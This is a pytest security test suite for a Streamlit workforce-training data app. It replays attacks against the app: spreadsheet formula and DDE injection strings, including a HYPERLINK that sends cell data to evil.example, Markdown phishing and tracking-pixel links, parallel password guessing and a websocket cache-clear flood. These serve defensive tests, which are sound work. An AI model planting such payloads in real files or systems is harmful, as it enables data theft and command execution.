"""An attacker's and a careless clerk's attempts, replayed against the real parts.

Each test is one attempt that once hurt the product, and what it must do now:
files that multiply in memory, formula and Markdown text in names, parallel
logins, a browser clearing every cache, the metrics endpoint, a damaged database,
a full disk, confusing file errors, and reporting dates. Servers are real
(``streamlit run`` on loopback, through ``conftest.serve``), spoken to with a raw
websocket client as an attacker would; files go through the real import, the
command line in a subprocess and AppTest. The browser tests are at the end.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import threading
import time
import tomllib
import tracemalloc
import urllib.error
import urllib.request
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import websockets
from playwright.sync_api import Error as PlaywrightError
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

from tests.conftest import ARTIFACTS, ROOT, run_async, serve
from workforce import refresh
from workforce.access import auth
from workforce.core import db, i18n, metrics, reporting, spreadsheet
from workforce.core.filters import Filters
from workforce.ingest import limits
from workforce.ingest.errors import IngestError
from workforce.ingest.load import Upload, import_files, preview
from workforce.ingest.report import quarantine_frame, report
from workforce.ingest.validate import validate
from workforce.planning import scenarios
from workforce.planning.scenarios import Scenario

KEY = "security-test-key-0123456789"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62-cmd",
    "=1+2",
)
PIXEL = "![pixel{}](http://127.0.0.1:8619/track.png)"
PHISH = "[Klik untuk hadiah {}](https://evil.example/phish)"
LOWONGAN_HEADER = "kode_perusahaan,kejuruan,tahun,jumlah\n"


def cli(*args: str, env: dict | None = None, **kw) -> subprocess.CompletedProcess:
    """``python -m workforce ...`` in a subprocess (the pseudonym key set)."""
    return subprocess.run(
        [sys.executable, "-m", "workforce", *args],
        cwd=ROOT,
        env={**os.environ, "WORKFORCE_PSEUDONYM_KEY": KEY, **(env or {})},
        capture_output=True,
        text=True,
        timeout=300,
        **kw,
    )


@pytest.fixture
def real_db(tmp_path: Path) -> Path:
    """A new, empty database (not a demo): schema and reference tables."""
    path = tmp_path / "cilegon.duckdb"
    with db.atomic_write(path) as conn:
        refresh.init_database(conn)
    return path


def demo_named(
    monkeypatch: pytest.MonkeyPatch, path: Path, names: Callable[[int], str]
) -> Path:
    """A demo database whose kejuruan ``i`` (from 1) is called ``names(i)``, as if
    the names had been typed by a careless clerk (or stored before the import
    refused them): the demo's own generator, with its catalogue renamed."""
    from workforce.demo import build_demo_file, catalog

    renamed = tuple(
        k._replace(nama=names(i)) for i, k in enumerate(catalog.KEJURUAN, start=1)
    )
    monkeypatch.setattr(catalog, "KEJURUAN", renamed)
    build_demo_file(path, participants=2000, seed=7)
    return path


# ---- a 100 KB file took the server down ---------------------------------------------


def _identical_rows(n: int) -> bytes:
    return (LOWONGAN_HEADER + "PRS-0001,Las,2025,1\n" * n).encode()


def _peak_mb(conn, data: bytes) -> tuple[float, object]:
    tracemalloc.start()
    try:
        checked = preview(conn, Upload("lowongan", "x.csv", data), KEY.encode())
        return tracemalloc.get_traced_memory()[1] / 2**20, checked
    finally:
        tracemalloc.stop()


def test_identical_rows_are_checked_in_linear_memory(real_db: Path) -> None:
    """5,000 identical rows took 1.6 GB, 15,000 died: now four times the rows
    take about four times the memory (quadratic would be sixteen)."""
    conn = db.connect(real_db, read_only=True)
    try:
        small, _ = _peak_mb(conn, _identical_rows(15_000))
        large, checked = _peak_mb(conn, _identical_rows(60_000))
    finally:
        conn.close()
    assert small < 150, f"15,000 rows took {small:.0f} MB"
    assert large < 6 * small, (small, large)
    reasons = report(checked)
    dup = reasons[reasons["code"] == "duplicate_key"]
    assert len(dup) == 60_000  # every row rejected, none chosen silently
    assert (
        dup["reason_en"]
        .iloc[0]
        .startswith(
            "The same key is in 60000 rows of this file (rows 2, 3, 4, 5, 6, 7, 8, 9, "
            "10, 11 … (+59990))"
        )
    )


def test_limits_refuse_big_files_with_a_sentence(monkeypatch, real_db: Path) -> None:
    """File size, rows and an XLSX's unzipped size, each with its own message."""
    conn = db.connect(real_db, read_only=True)
    key = KEY.encode()
    try:
        monkeypatch.setattr(limits, "MAX_ROWS", 100)
        with pytest.raises(IngestError) as rows:
            preview(conn, Upload("lowongan", "a.csv", _identical_rows(150)), key)
        assert rows.value.text("en").startswith("The file a.csv has 150 rows")
        monkeypatch.setattr(limits, "MAX_FILE_BYTES", 1000)
        with pytest.raises(IngestError) as size:
            preview(conn, Upload("lowongan", "b.csv", _identical_rows(80)), key)
        assert size.value.code == "file_too_large"
        monkeypatch.setattr(limits, "MAX_FILE_BYTES", 10**8)
        monkeypatch.setattr(limits, "MAX_UNZIPPED_MB", 1)
        book = openpyxl.Workbook()
        book.active.append(["kode_perusahaan", "kejuruan", "tahun", "jumlah"])
        book.active.append(["PRS-1", "A" * 32_000, 2025, 1])
        for _ in range(60):  # ~2 MB of XML, a few KB zipped
            book.active.append(["PRS-1", "A" * 32_000, 2025, 1])
        sink = io.BytesIO()
        book.save(sink)
        assert len(sink.getvalue()) < 200_000
        with pytest.raises(IngestError) as unzipped:
            preview(conn, Upload("lowongan", "c.xlsx", sink.getvalue()), key)
        assert unzipped.value.code == "xlsx_too_large"
    finally:
        conn.close()


def test_the_upload_widget_has_the_same_limit() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == limits.MAX_FILE_MB


def test_a_huge_cell_is_cut_in_messages_and_quarantine(real_db: Path) -> None:
    """A 2 MB cell: the row is rejected showing its first 80 characters; neither
    the command line nor the quarantine keeps the rest."""
    csv = real_db.parent / "huge.csv"
    csv.write_text(LOWONGAN_HEADER + "PRS-0001," + "A" * 2_000_000 + ",2025,1\n")
    result = cli("import", "lowongan", str(csv), "--db", str(real_db), "--lang", "en")
    assert result.returncode == 1, result.stderr
    assert "A" * 80 + "…" in result.stdout
    assert max(len(line) for line in result.stdout.splitlines()) < 400
    conn = db.connect(real_db, read_only=True)
    try:
        stored = conn.execute("select max(length(row_json)) from import_quarantine")
        assert stored.fetchone()[0] < 500
    finally:
        conn.close()


# ---- formula text ------------------------------------------------------------------


def test_formula_text_is_rejected_at_import(real_db: Path) -> None:
    rows = [f'PRS-0001,"{a.replace(chr(34), 2 * chr(34))}",2025,1' for a in ATTACKS]
    rows.append("PRS-0001,Las\u202etxt.exe,2025,1")  # a bidirectional override
    data = (LOWONGAN_HEADER + "\n".join(rows) + "\n").encode()
    conn = db.connect(real_db, read_only=True)
    try:
        checked = preview(conn, Upload("lowongan", "f.csv", data), KEY.encode())
    finally:
        conn.close()
    found = report(checked)
    kejuruan = found[found["column"] == "kejuruan"]
    assert kejuruan["code"].tolist() == ["formula_text"] * 4 + ["hidden_characters"]
    assert checked.clean.empty


def test_formula_text_is_neutral_in_every_file_the_product_writes(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Names holding formulas (stored before the import refused them): the open
    data CSV prefixes ``'``; the meeting pack's workbook, scenario name included,
    holds strings only, quoted as Excel quotes typed text."""
    path = demo_named(
        monkeypatch, tmp_path / "demo.duckdb", lambda i: f"{ATTACKS[i % 4]} {i}"
    )
    out = tmp_path / "open"
    assert cli("export-open-data", "--out", str(out), "--db", str(path)).returncode == 0
    hasil = pd.read_csv(out / "hasil_program.csv", dtype=str, keep_default_na=False)
    kejuruan = hasil.loc[hasil["dimensi"] == "kejuruan", "kategori"]
    assert len(kejuruan) and kejuruan.str.startswith("'").all()
    for column in hasil.columns:
        assert not hasil[column].map(spreadsheet.is_formula).any(), column
    name = '=HYPERLINK("http://evil.example/","Rencana")'
    directory = tmp_path / "scenarios"
    seats = pd.DataFrame(
        [{"kejuruan": ATTACKS[0] + " 1", "APBN": 10, "APBD": 0, "CSR": 0}]
    )
    scenarios.save(Scenario.from_frame(name, 2026, {"APBN": 1e8}, seats), directory)
    packed = cli(
        "meeting-pack", "--db", str(path), "--year", "2026", "--scenario", name,
        "--out", str(tmp_path / "pack"),
        env={"WORKFORCE_SCENARIOS_DIR": str(directory)},
    )  # fmt: skip
    assert packed.returncode == 0, packed.stderr
    (xlsx,) = (tmp_path / "pack").glob("*.xlsx")
    assert (tmp_path / "pack" / xlsx.name.replace(".xlsx", ".pdf")).stat().st_size
    book = openpyxl.load_workbook(xlsx)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and spreadsheet.is_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    assert name in texts  # the scenario's name, as text
    info = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows()}
    assert info[i18n.t("planner.xlsx.data_as_of", "id")] == datetime(
        2025, 12, 31
    )  # a date cell


def test_report_and_table_downloads_use_the_neutral_csv() -> None:
    frame = pd.DataFrame({"kejuruan": list(ATTACKS) + ["-5", "Las"], "n": range(6)})
    text = spreadsheet.csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert text[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")",0',
        "'@SUM(1+1)*cmd|' /C calc'!A0,1",
        "'+62-cmd,2",
        "'=1+2,3",
        "-5,4",
        "Las,5",
    ]


# ---- Markdown injection ----------------------------------------------------------------

UNESCAPED_LINK = re.compile(r"(?<!\\)(?:\]\(|!\[)")  # a link or an image


def _markdown_texts(at) -> list[str]:
    kinds = ("caption", "markdown", "info", "warning", "success", "error", "title")
    return [e.value for kind in kinds for e in getattr(at, kind)]


@pytest.mark.parametrize(
    ("page", "role"),
    [("pages/transparansi.py", None), ("pages/link_match.py", "admin"),
     ("pages/perencanaan.py", "admin")],
)  # fmt: skip
def test_names_from_the_data_are_shown_as_text(
    app_test, monkeypatch, tmp_path: Path, page: str, role: str | None
) -> None:
    path = demo_named(
        monkeypatch,
        tmp_path / "demo.duckdb",
        lambda i: (PIXEL if i % 2 else PHISH).format(i),
    )
    at = app_test(path, role=role)
    at.run()
    if page != "pages/transparansi.py":
        at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    texts = _markdown_texts(at)
    shown = [t for t in texts if "evil.example" in t or "track.png" in t]
    assert shown, "no sentence names a kejuruan"
    for text in shown:
        assert not UNESCAPED_LINK.search(text), text


# ---- ten logins at once ------------------------------------------------------------------


def test_parallel_logins_cannot_outrun_the_lock(tmp_path: Path) -> None:
    """9 wrong and 1 right at the same moment from 10 sessions: at most
    ``max_failures`` passwords are checked; the rest are refused as locked."""
    users = tmp_path / "users.toml"
    auth.add_user("siti", "benar sekali 123", "admin", users)
    start = threading.Barrier(10)
    results: list[auth.LoginResult] = []

    def attempt(i: int) -> None:
        password = "benar sekali 123" if i == 9 else f"salah {i}"
        start.wait()
        results.append(auth.authenticate("siti", password, f"s{i}", users))

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    checked = [r for r in results if r.checked]
    assert len(results) == 10
    right = [r for r in results if r.ok]
    if right:  # the right one came before the lock: the lock is then forgiven
        assert len(checked) <= 2 * auth.Throttle(users).max_failures
    else:
        assert len(checked) == auth.Throttle(users).max_failures
        assert all(r.locked_s > 0 for r in results if not r.checked)
    # and once the lock stands, the right password is refused too
    throttle = auth.Throttle(auth.lockout_path(users))
    for _ in range(5):
        throttle.fail(["user:siti"])
    late = auth.authenticate("siti", "benar sekali 123", "late", users)
    assert (late.ok, late.checked) == (False, False) and late.locked_s > 0


# ---- the server --------------------------------------------------------------------------


async def _page_run(
    url: str, page: str = "transparansi", clears: int = 0
) -> list[bytes]:
    """One browser session as a raw websocket client: run ``page`` once and collect
    what the server sends; then send ``clears`` cache-clearing messages."""
    async with websockets.connect(
        url.replace("http", "ws") + "/_stcore/stream",
        subprotocols=["streamlit"],
        max_size=None,
    ) as ws:
        run = BackMsg()
        run.rerun_script.page_name = page
        await ws.send(run.SerializeToString())
        got: list[bytes] = []
        while True:
            data = await asyncio.wait_for(ws.recv(), 90)
            got.append(data)
            msg = ForwardMsg()
            msg.ParseFromString(data)
            if msg.WhichOneof("type") == "script_finished":
                break
        for _ in range(clears):
            clear = BackMsg()
            clear.clear_cache = True
            await ws.send(clear.SerializeToString())
            await asyncio.sleep(0.2)
        return got


def _messages(got: list[bytes]) -> list[ForwardMsg]:
    out = []
    for data in got:
        msg = ForwardMsg()
        msg.ParseFromString(data)
        out.append(msg)
    return out


def _exceptions(got: list[bytes]) -> list[str]:
    return [
        m.delta.new_element.exception.message
        for m in _messages(got)
        if m.WhichOneof("type") == "delta"
        and m.delta.WhichOneof("type") == "new_element"
        and m.delta.new_element.WhichOneof("type") == "exception"
    ]


async def _flood_while_loading(url: str) -> list[list[bytes]]:
    flood = asyncio.create_task(_page_run(url, clears=40))  # 5 a second, 8 s
    loads = []
    while not flood.done() or len(loads) < 3:
        loads.append(await _page_run(url))
    await flood
    return loads


def test_a_browser_cannot_clear_the_caches(demo_db: Path) -> None:
    log = "security-clear-cache.log"
    with serve(demo_db, log_name=log) as url:
        loads = run_async(_flood_while_loading(url))
        with urllib.request.urlopen(f"{url}/_stcore/metrics", timeout=10) as resp:
            metrics_body = resp.read().decode()
    text = (ARTIFACTS / log).read_text()
    assert text.count("ignored a request to clear the caches") == 40
    assert "Connection already closed" not in text and "Traceback" not in text
    for got in loads:
        assert not _exceptions(got)
        assert b"Transparansi" in b"".join(got)
    # the metrics endpoint answers with no figures (the proxy also refuses it)
    assert not [line for line in metrics_body.splitlines() if not line.startswith("#")]


def test_the_favicon_is_served_here_not_by_a_font_cdn(live_server: str) -> None:
    got = run_async(_page_run(live_server))
    config = [
        m for m in _messages(got) if m.WhichOneof("type") == "page_config_changed"
    ]
    assert config and config[0].page_config_changed.favicon.startswith("/media/")
    assert b"gstatic" not in b"".join(got)


def test_a_damaged_database_is_a_sentence_without_paths(tmp_path: Path) -> None:
    broken = tmp_path / "rusak" / "cilegon.duckdb"
    broken.parent.mkdir()
    broken.write_bytes(os.urandom(64 * 1024))
    with serve(broken, log_name="security-damaged.log") as url:
        got = b"".join(run_async(_page_run(url)))
    assert i18n.t("app.db_unreadable", "id").encode() in got
    assert str(tmp_path).encode() not in got and b"Traceback" not in got
    assert str(broken) in (ARTIFACTS / "security-damaged.log").read_text()


# ---- a full disk ---------------------------------------------------------------------------


def _small_disk(limit: int) -> Callable[[], None]:
    def limit_writes() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a kill
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_writes


def test_a_full_disk_leaves_no_copy_and_says_so(real_db: Path) -> None:
    csv = real_db.parent / "lowongan.csv"
    csv.write_text(LOWONGAN_HEADER + "PRS-0001,Las,2025,1\n")
    before = real_db.read_bytes()
    result = cli(
        "import", "lowongan", str(csv), "--db", str(real_db), "--lang", "en",
        preexec_fn=_small_disk(real_db.stat().st_size // 2),
    )  # fmt: skip
    assert result.returncode == 6, result.stderr
    assert "could not be written" in result.stderr and "Traceback" not in result.stderr
    assert list(real_db.parent.glob(".*.tmp*")) == []
    assert real_db.read_bytes() == before
    stale = real_db.with_name(f".{real_db.name}.999999.tmp")
    stale.write_bytes(b"x" * 1024)  # left by a writer that was killed
    assert cli("import", "lowongan", str(csv), "--db", str(real_db)).returncode == 1
    assert not stale.exists()


# ---- errors that confused or leaked --------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "code", "words"),
    [
        (os.urandom(4096).replace(b"\x00", b"") + b"\x00", 2, "is not a CSV or XLSX"),
        (b"kode_perusahaan,kejuruan,tahun,jumlah\rPRS-0001,Las,2025,1\r", 1,
         "neither in the database"),
        ("kode_perusahaan,kejuruan,tahun,jumlah\nPRS-0001,Las,2025,1\n".encode("utf-16"),
         1, "neither in the database"),
        (b"tahun,kode_program,sumber_dana,pagu,realisasi\n"
         b"2025,PLT-1,APBN,99999999999999999999999,1\n", 1, "too large"),
    ],
    ids=["random-bytes", "cr-only", "utf-16", "huge-number"],
)  # fmt: skip
def test_file_errors_are_sentences(
    real_db: Path, content: bytes, code: int, words: str
):
    template = "anggaran" if b"pagu" in content else "lowongan"
    path = real_db.parent / "upload.csv"
    path.write_bytes(content)
    result = cli("import", template, str(path), "--db", str(real_db), "--lang", "en")
    assert result.returncode == code, (result.stdout, result.stderr)
    assert words in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


def test_formula_cell_without_value_and_serial_in_csv(real_db: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["kode_perusahaan", "kejuruan", "tahun", "jumlah"])
    book.active.append(["PRS-1", '=CONCAT("La","s")', 2025, 1])
    sink = io.BytesIO()
    book.save(sink)
    program = (
        "kode_program,nama_program,kejuruan,penyelenggara,jenis,sumber_dana,tahun,"
        "tanggal_mulai,tanggal_selesai\nP1,Las,Las,BLK,pelatihan,APBN,2023,45000,15/03/2023\n"
    )
    conn = db.connect(real_db, read_only=True)
    try:
        xlsx = report(
            preview(conn, Upload("lowongan", "f.xlsx", sink.getvalue()), b"k" * 16)
        )
        csv = report(
            preview(conn, Upload("program", "p.csv", program.encode()), b"k" * 16)
        )
    finally:
        conn.close()
    cell = xlsx[xlsx["column"] == "kejuruan"].iloc[0]
    assert (cell["value"], cell["code"]) == ('=CONCAT("La","s")', "formula_text")
    serial = csv[csv["column"] == "tanggal_mulai"].iloc[0]
    assert (serial["value"], serial["code"]) == ("45000", "date_serial_text")


def test_init_demo_refuses_a_real_database(real_db: Path) -> None:
    csv = real_db.parent / "perusahaan.csv"
    csv.write_text(
        "kode_perusahaan,nama_perusahaan,sektor_kbli,kecamatan\nPRS-1,PT A,C,Ciwandan\n"
    )
    assert cli("import", "perusahaan", str(csv), "--db", str(real_db)).returncode == 0
    before = real_db.read_bytes()
    result = cli("init-demo", "--db", str(real_db), "--participants", "50")
    assert result.returncode == 5
    assert "real data" in result.stderr and "Traceback" not in result.stderr
    assert real_db.read_bytes() == before


# ---- the date the data describes -------------------------------------------------------------

NIKS = {p: f"36720101010001{i:02d}" for i, p in enumerate("ABCDEF")}
AS_OF_FILES = {
    "program": "kode_program,nama_program,kejuruan,penyelenggara,jenis,sumber_dana,"
    "tahun,tanggal_mulai,tanggal_selesai\n"
    "P1,Las 1,Las,BLK Cilegon,pelatihan,APBD,2025,06/01/2025,31/01/2025\n"
    "P2,Las 2,Las,BLK Cilegon,pelatihan,APBD,2025,01/04/2025,30/04/2025\n",
    "peserta": "nik,jenis_kelamin,tanggal_lahir,pendidikan,kecamatan\n"
    + "".join(f"{n},L,01/01/2000,SMA,Ciwandan\n" for n in NIKS.values()),
    "pendaftaran": "nik,kode_program,status,tanggal_lulus\n"
    + "".join(f"{NIKS[p]},P1,lulus,01/02/2025\n" for p in "ABCD")
    + "".join(f"{NIKS[p]},P2,lulus,01/05/2025\n" for p in "EF"),
    "penempatan": "nik,jenis_penempatan,tanggal_mulai,kode_program\n"
    f"{NIKS['A']},wirausaha,01/03/2025,P1\n{NIKS['B']},wirausaha,15/07/2025,P1\n"
    f"{NIKS['E']},wirausaha,01/06/2025,P2\n{NIKS['F']},wirausaha,01/09/2025,P2\n",
}


def _import_as_of(path: Path, as_of: date):
    uploads = [Upload(t, f"{t}.csv", text.encode()) for t, text in AS_OF_FILES.items()]
    return import_files(path, uploads, key=KEY.encode(), as_of=as_of)


def _placed_6b(path: Path) -> tuple[date | None, float | None]:
    conn = db.connect(path, read_only=True)
    try:
        as_of = reporting.as_of(db.get_info(conn))
        rate = metrics.compute(
            conn, "tingkat_penempatan_6b", Filters(2025, as_of=as_of)
        )
        return as_of, rate.value
    finally:
        conn.close()


def test_the_same_data_at_two_dates_gives_two_hand_worked_rates(
    real_db: Path, app_test
) -> None:
    """Graduates A-D (P1) on 1 Feb 2025, E-F (P2) on 1 May 2025; placed: A 1 Mar,
    B 15 Jul, E 1 Jun, F 1 Sep. A cohort counts 183 days after graduating.
    Data per 30 Sep 2025: mature if graduated by 31 Mar → A-D, placed A, B: 2/4 =
    50%. The same files per 31 Dec 2025: mature by 1 Jul → all six, placed A, B,
    E, F: 4/6 = 66.67%."""
    first = _import_as_of(real_db, date(2025, 9, 30))
    assert first.committed and {r.status for r in first.results} == {"loaded"}
    assert _placed_6b(real_db) == (date(2025, 9, 30), 50.0)
    again = _import_as_of(real_db, date(2025, 12, 31))  # identical files, new date
    assert again.committed and {r.status for r in again.results} == {"unchanged"}
    as_of, rate = _placed_6b(real_db)
    assert as_of == date(2025, 12, 31) and rate == pytest.approx(400 / 6)
    # employers dated earlier do not hold the dated figures back
    employers = (
        "kode_perusahaan,nama_perusahaan,sektor_kbli,kecamatan\nPRS-1,PT A,C,Ciwandan\n"
    )
    import_files(real_db, [Upload("perusahaan", "p.csv", employers.encode())],
                 key=KEY.encode(), as_of=date(2025, 1, 1))  # fmt: skip
    assert _placed_6b(real_db)[0] == date(2025, 12, 31)
    # a later enrolment export alone: the reporting date is the earliest table's
    enrolments = [Upload("pendaftaran", "d.csv", AS_OF_FILES["pendaftaran"].encode())]
    import_files(real_db, enrolments, key=KEY.encode(), as_of=date(2026, 1, 31))
    assert _placed_6b(real_db)[0] == date(2025, 12, 31)
    with pytest.raises(IngestError, match="future"):
        import_files(real_db, enrolments, key=KEY.encode(), as_of=date(2999, 1, 1))
    kpis = cli("kpis", "--year", "2025", "--json", "--db", str(real_db))
    assert json.loads(kpis.stdout)["tingkat_penempatan_6b"] == pytest.approx(400 / 6)
    at = app_test(real_db)
    at.run()
    assert any("31 Desember 2025" in c.value for c in at.caption)


def test_the_import_command_takes_the_export_date(real_db: Path) -> None:
    path = real_db.parent / "program.csv"
    path.write_text(AS_OF_FILES["program"])
    result = cli(
        "import", "program", str(path), "--db", str(real_db), "--as-of", "2025-06-30"
    )
    assert result.returncode == 0, result.stderr
    conn = db.connect(real_db, read_only=True)
    try:
        info = db.get_info(conn)
        logged = conn.execute("select data_as_of from import_log").fetchall()
    finally:
        conn.close()
    assert info["data_as_of.program"] == info["data_as_of"] == "2025-06-30"
    assert logged == [(date(2025, 6, 30),)]


def test_quarantine_rows_keep_no_clear_nik() -> None:
    """The quarantine CSV is personal data: the NIK is masked in what it holds."""
    conn = db.connect(":memory:")
    refresh.init_database(conn)
    from workforce.ingest.lookups import DbLookups
    from workforce.ingest.read import read_upload
    from workforce.ingest.templates import get

    data = f"nik,kode_program,status\n{NIKS['A']},NOPE,lulus\n".encode()
    raw = read_upload("d.csv", data, get("pendaftaran"))
    checked = validate(
        raw, get("pendaftaran"), DbLookups(conn, b"k" * 16, date.today())
    )
    frame = quarantine_frame(checked, 1)
    assert NIKS["A"] not in spreadsheet.csv_bytes(frame).decode("utf-8-sig")
    conn.close()


# ---- in a real browser ----------------------------------------------------------------------


@pytest.mark.browser
def test_the_quarantine_download_is_served_once(page, demo_db: Path, tmp_path: Path):
    """The admin's browser receives the file (it asks twice: the page checks the
    address, then saves it); the same address then answers 404, to curl as to a
    copied link."""
    from tests.conftest import enter_demo_admin, wait_for_app

    path = tmp_path / "demo.duckdb"
    shutil.copyfile(demo_db, path)
    bad = (LOWONGAN_HEADER + "PRS-9999,Las,2025,1\n").encode()
    import_files(path, [Upload("lowongan", "x.csv", bad)], key=KEY.encode(), force=True)
    with serve(path, log_name="security-quarantine.log") as url:
        page.goto(f"{url}/kelola_data")
        wait_for_app(page)
        enter_demo_admin(page)
        page.get_by_role("tab", name=i18n.t("kelola.tab_log", "id")).click()
        wait_for_app(page)
        urls: list[str] = []
        page.on("request", lambda r: urls.append(r.url) if "/media/" in r.url else None)
        with page.expect_download() as download:
            page.get_by_role(
                "button", name=i18n.t("kelola.download_quarantine", "id")
            ).click()
        assert "PRS-9999" in Path(download.value.path()).read_text(encoding="utf-8-sig")
        media = [u for u in urls if u.endswith(".csv")]
        assert media, urls
        time.sleep(0.5)
        with pytest.raises(urllib.error.HTTPError) as again:
            urllib.request.urlopen(media[-1], timeout=10)
        assert again.value.code == 404


def _policy() -> str:
    """The Content-Security-Policy written for the proxy in deploy/."""
    text = (ROOT / "deploy" / "security-headers.md").read_text()
    return re.search(r'set-header Content-Security-Policy "([^"]+)"', text).group(1)


@pytest.mark.browser
def test_the_content_security_policy_lets_every_page_draw(playwright, live_server: str):
    """Every response carries the proxy's headers (added here as the proxy would):
    the public page and a page of charts draw with nothing refused. (A response
    made by the test counts as coming from no known address, which Chromium's
    local-network checks would hold against the loopback websocket: they are off
    in this browser.)"""
    from tests.conftest import CHROMIUM, CHROMIUM_ARGS, enter_demo_admin, wait_for_app

    browser = playwright.chromium.launch(
        executable_path=CHROMIUM,
        args=[*CHROMIUM_ARGS, "--disable-features=LocalNetworkAccessChecks"],
    )
    page = browser.new_page()
    headers = {"content-security-policy": _policy(), "x-frame-options": "DENY"}

    def with_headers(route) -> None:
        try:
            response = route.fetch()
        except PlaywrightError:  # a media file dropped by a rerun meanwhile: the
            route.continue_()  # browser asks for it itself (the page's CSP holds)
            return
        route.fulfill(response=response, headers={**response.headers, **headers})

    try:
        page.route("**/*", with_headers)
        page.add_init_script(
            "window.__refused = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.__refused.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.goto(f"{live_server}/transparansi")
        wait_for_app(page)
        assert page.get_by_test_id("stPlotlyChart").count() > 0
        enter_demo_admin(page)
        nav = page.get_by_test_id("stSidebarNav")
        nav.get_by_role("link", name=i18n.t("nav.ringkasan", "id")).click()
        wait_for_app(page)
        assert page.get_by_test_id("stPlotlyChart").count() > 0
        assert page.evaluate("window.__refused") == []
    finally:
        browser.close()
